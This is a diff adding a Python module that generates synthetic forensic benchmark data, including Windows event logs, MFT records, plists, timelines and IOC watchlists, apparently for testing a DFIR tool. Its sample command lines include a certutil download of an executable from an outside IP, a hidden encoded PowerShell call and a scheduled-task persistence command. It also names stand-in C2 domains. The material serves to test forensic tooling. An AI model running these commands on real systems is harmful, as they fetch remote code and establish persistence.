@@ -0,0 +1,192 @@
+#!/usr/bin/env python3
+"""
+Synthetic Artefact Generators
+
+Deterministic generators for artefact-shaped benchmark inputs. Every generator
+takes a seed so the same size and seed always produce byte-identical files,
+which keeps benchmark results comparable between releases.
+"""
+
+import csv
+import json
+import os
+import plistlib
+import random
+from datetime import datetime, timedelta
+from typing import List
+
+BASE_TIME = datetime(2024, 1, 1)
+
+PROCESSES = [
+    "C:\\Windows\\System32\\svchost.exe",
+    "C:\\Windows\\System32\\cmd.exe",
+    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+    "C:\\Windows\\System32\\rundll32.exe",
+    "C:\\Windows\\explorer.exe",
+    "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
+    "C:\\Users\\Public\\Downloads\\update.exe",
+]
+COMMAND_LINES = [
+    "cmd.exe /c whoami",
+    "powershell.exe -nop -w hidden -enc SQBFAFgA",
+    "rundll32.exe shell32.dll,Control_RunDLL",
+    "schtasks /create /tn Updater /tr C:\\Users\\Public\\update.exe",
+    "certutil -urlcache -split -f http://203.0.113.10/a.exe",
+    "svchost.exe -k netsvcs",
+    "explorer.exe",
+]
+EVENT_IDS = [4624, 4625, 4688, 4698, 4720, 7045, 1102, 4104, 5140]
+WORDS = [
+    "invoice", "password", "backup", "report", "admin", "mimikatz", "vpn",
+    "payroll", "secret", "confidential", "ransom", "bitcoin", "lateral",
+    "the", "and", "of", "to", "in", "for", "on", "with", "server", "user",
+]
+DOMAINS = ["example.com", "evil-c2.net", "updates.example.org", "cdn.badhost.io"]
+
+
+def _timestamp(rng, spread_days=30):
+    offset = timedelta(seconds=rng.randint(0, spread_days * 86400))
+    return (BASE_TIME + offset).strftime("%Y-%m-%dT%H:%M:%S.%fZ")
+
+
+def generate_evtx_jsonl(path: str, records: int, seed: int = 0) -> str:
+    """Write EVTX-shaped JSON lines in the layout produced by Artemis."""
+    rng = random.Random(seed)
+    with open(path, "w") as out:
+        for record_id in range(records):
+            event = {
+                "event_record_id": record_id,
+                "timestamp": _timestamp(rng),
+                "event_id": rng.choice(EVENT_IDS),
+                "computer": "WORKSTATION-{:02d}".format(rng.randint(1, 20)),
+                "data": {
+                    "Event": {
+                        "System": {"Channel": "Security", "Provider": "Microsoft-Windows-Security-Auditing"},
+                        "EventData": {
+                            "NewProcessName": rng.choice(PROCESSES),
+                            "CommandLine": rng.choice(COMMAND_LINES),
+                            "TargetUserName": "user{}".format(rng.randint(1, 50)),
+                            "IpAddress": "10.0.{}.{}".format(rng.randint(0, 255), rng.randint(1, 254)),
+                        },
+                    }
+                },
+            }
+            out.write(json.dumps(event) + "\n")
+    return path
+
+
+def generate_mft_json(path: str, records: int, seed: int = 0) -> str:
+    """Write a JSON array of MFT entries shaped like Artemis MFT output."""
+    rng = random.Random(seed)
+    with open(path, "w") as out:
+        out.write("[")
+        for entry in range(records):
+            directory = rng.choice(["Windows\\System32", "Users\\bob\\Downloads", "ProgramData", "Temp"])
+            filename = "{}{}.{}".format(
+                rng.choice(WORDS), entry, rng.choice(["exe", "dll", "txt", "ps1", "docx", "lnk"])
+            )
+            record = {
+                "entry": entry,
+                "sequence": rng.randint(1, 10),
+                "filename": filename,
+                "full_path": "C:\\{}\\{}".format(directory, filename),
+                "size": rng.randint(0, 10 * 1024 * 1024),
+                "is_file": True,
+                "created": _timestamp(rng, 365),
+                "modified": _timestamp(rng, 365),
+                "accessed": _timestamp(rng, 365),
+                "changed": _timestamp(rng, 365),
+            }
+            if entry:
+                out.write(",")
+            out.write(json.dumps(record))
+        out.write("]")
+    return path
+
+
+def generate_keyword_corpus(directory: str, files: int, lines_per_file: int, seed: int = 0) -> str:
+    """Write a tree of text files and return the path of a matching keyword file."""
+    rng = random.Random(seed)
+    os.makedirs(directory, exist_ok=True)
+    for index in range(files):
+        subdir = os.path.join(directory, "dir{:03d}".format(index % 16))
+        os.makedirs(subdir, exist_ok=True)
+        with open(os.path.join(subdir, "file{:05d}.txt".format(index)), "w") as out:
+            for _ in range(lines_per_file):
+                out.write(" ".join(rng.choice(WORDS) for _ in range(12)) + "\n")
+    keyword_file = os.path.join(directory, "keywords.txt")
+    with open(keyword_file, "w") as out:
+        out.write("\n".join(["mimikatz", "password", "ransom", "bitcoin", "lateral"]) + "\n")
+    return keyword_file
+
+
+def generate_plist_tree(directory: str, files: int, depth: int = 3, seed: int = 0) -> List[str]:
+    """Write nested launchd-style plists and return their paths."""
+    rng = random.Random(seed)
+    os.makedirs(directory, exist_ok=True)
+
+    def node(level):
+        if level == 0:
+            return rng.choice(WORDS)
+        return {
+            "Label": "com.{}.{}".format(rng.choice(WORDS), rng.choice(WORDS)),
+            "ProgramArguments": ["/bin/sh", "-c", rng.choice(COMMAND_LINES)],
+            "RunAtLoad": rng.choice([True, False]),
+            "Children": [node(level - 1) for _ in range(3)],
+        }
+
+    paths = []
+    for index in range(files):
+        path = os.path.join(directory, "com.synthetic.agent{:05d}.plist".format(index))
+        with open(path, "wb") as out:
+            plistlib.dump(node(depth), out)
+        paths.append(path)
+    return paths
+
+
+def generate_csv_timeline(path: str, rows: int, seed: int = 0) -> str:
+    """Write a plaso-style CSV timeline in the layout of plaso_timeline.csv."""
+    rng = random.Random(seed)
+    with open(path, "w", newline="") as out:
+        writer = csv.writer(out)
+        writer.writerow(
+            ["LastWriteTime", "timestamp_desc", "logsource", "source_long", "message", "parser", "display_name", "tag"]
+        )
+        for _ in range(rows):
+            writer.writerow(
+                [
+                    _timestamp(rng, 365),
+                    rng.choice(["Creation Time", "Content Modification Time", "Last Access Time"]),
+                    "FILE",
+                    "NTFS $MFT",
+                    rng.choice(PROCESSES),
+                    "mft",
+                    "NTFS:\\{}".format(rng.choice(PROCESSES)),
+                    "-",
+                ]
+            )
+    return path
+
+
+def generate_ioc_corpus(directory: str, files: int, lines_per_file: int, seed: int = 0) -> str:
+    """Write IOC-bearing text files and return the path of a matching watchlist."""
+    rng = random.Random(seed)
+    os.makedirs(directory, exist_ok=True)
+    iocs = set()
+    for index in range(files):
+        with open(os.path.join(directory, "log{:05d}.txt".format(index)), "w") as out:
+            for _ in range(lines_per_file):
+                ip = "203.0.{}.{}".format(rng.randint(0, 255), rng.randint(1, 254))
+                domain = "{}.{}".format(rng.choice(WORDS), rng.choice(DOMAINS))
+                iocs.update([ip, domain])
+                out.write(
+                    "{} connection from {} to {} user={}\n".format(
+                        _timestamp(rng), ip, domain, rng.choice(WORDS)
+                    )
+                )
+    watchlist = os.path.join(directory, "watchlist.txt")
+    with open(watchlist, "w") as out:
+        out.write("# synthetic watchlist\n")
+        for ioc in sorted(iocs)[: max(1, len(iocs) // 10)]:
+            out.write(ioc + "\n")
+    return watchlist